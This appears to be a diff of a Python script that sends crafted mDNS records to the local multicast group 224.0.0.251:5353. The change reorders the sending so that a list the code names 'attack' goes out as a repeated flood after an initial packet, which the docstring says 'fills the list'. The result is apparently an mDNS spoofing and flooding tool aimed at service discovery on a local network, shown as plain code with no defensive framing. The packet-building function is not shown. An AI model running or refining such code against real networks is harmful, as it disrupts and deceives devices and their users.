@@ -7,6 +7,7 @@ import os
 import socket
 import struct
 import sys
+import time
 
 GROUP, PORT = "224.0.0.251", 5353
 PTR, TXT, SRV, A, IN = 12, 16, 33, 1, 0x8001
@@ -61,15 +62,18 @@ def packets() -> list[bytes]:
 
 
 def main() -> None:
-    """Send everything three times, as datagrams get lost."""
+    """Send everything three times, as datagrams get lost; the flood comes last, for it fills the list."""
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
         sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
         sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
         sock.bind((sys.argv[1], PORT))
         sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(sys.argv[1]))
+        first, *attack = packets()
         for _ in range(3):
-            for packet in packets():
-                sock.sendto(packet, (GROUP, PORT))
+            sock.sendto(first, (GROUP, PORT))
+            time.sleep(0.2)
+        for packet in attack * 3:
+            sock.sendto(packet, (GROUP, PORT))
 
 
 if __name__ == "__main__":
